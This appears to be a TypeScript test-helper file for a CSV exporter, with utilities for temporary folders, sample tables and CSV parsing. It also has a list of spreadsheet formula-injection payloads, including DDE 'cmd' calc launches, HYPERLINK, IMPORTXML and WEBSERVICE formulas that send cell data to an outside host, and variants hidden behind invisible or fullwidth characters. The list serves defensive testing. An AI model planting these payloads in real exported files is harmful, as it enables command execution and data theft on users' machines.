import { mkdtemp, readFile, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import Papa from 'papaparse'
import type { CsvEncoding } from '#backend/exporting/writing/encodings.ts'
import type { Cell, ColumnKind, ExportTable } from '#backend/exporting/writing/table.ts'

/** Runs with a new empty folder, which is gone afterwards. */
export async function inFolder<T>(run: (folder: string) => Promise<T>): Promise<T> {
  const folder = await mkdtemp(join(tmpdir(), 'writing-'))
  try {
    return await run(folder)
  } finally {
    await rm(folder, { recursive: true, force: true })
  }
}

/** A table whose headings are the kinds with their place: text1, decimal2. */
export function tableOf(kinds: readonly ColumnKind[], rows: readonly (readonly Cell[])[]): ExportTable {
  const columns = kinds.map((kind, index) => ({ heading: `${kind}${index + 1}`, kind }))
  return { name: 'Orders', columns, rows }
}

/** Rows of a number and a text, from a source that gives them one by one. */
export async function* manyRows(count: number): AsyncGenerator<[number, string]> {
  for (let index = 0; index < count; index += 1) yield [index, `图书馆学, "${index}" & more`]
}

/** The records of a CSV file as another program sees them: decoded by the platform, parsed by Papa Parse. */
export async function readCsv(path: string, encoding: CsvEncoding): Promise<string[][]> {
  const label = encoding === 'gb18030' ? 'gb18030' : 'utf-8'
  const text = new TextDecoder(label, { fatal: true }).decode(await readFile(path))
  // A last line break ends the last record, it does not begin another.
  return Papa.parse<string[]>(text.replace(/\r\n$/, ''), { delimiter: ',', newline: '\r\n' }).data
}

/** Texts that start a formula in some spreadsheet program, with what they are hidden behind. */
export const FORMULA_PAYLOADS: readonly string[] = [
  '=1+1',
  '=HYPERLINK("http://example.org?x="&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '=IMPORTXML(CONCAT("http://example.org?v=",A2:E2),"//a")',
  '=WEBSERVICE("http://example.org")',
  '+1+1',
  '+cmd|calc!A0',
  '-1+1',
  "-2+3+cmd|' /C calc'!D2",
  '@SUM(1+9)*cmd|calc!A0',
  '\t=1+1',
  '\tplain after a tab',
  '\r=1+1',
  '\rplain after a return',
  '\n=1+1',
  '\r\n=1+1',
  ' =1+1',
  '   +1+1',
  '\u00a0=1+1',
  '\u3000=1+1',
  '\ufeff=1+1',
  '\u200b=1+1',
  '\u0000=1+1',
  '\u202e=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  ' \u3000＝1+1',
  '﹦1+1',
  '﹢1',
  '﹣1',
  '﹫SUM(1)',
  '=',
  '"=1+1"\n=2',
  '=1+1,=2+2',
]
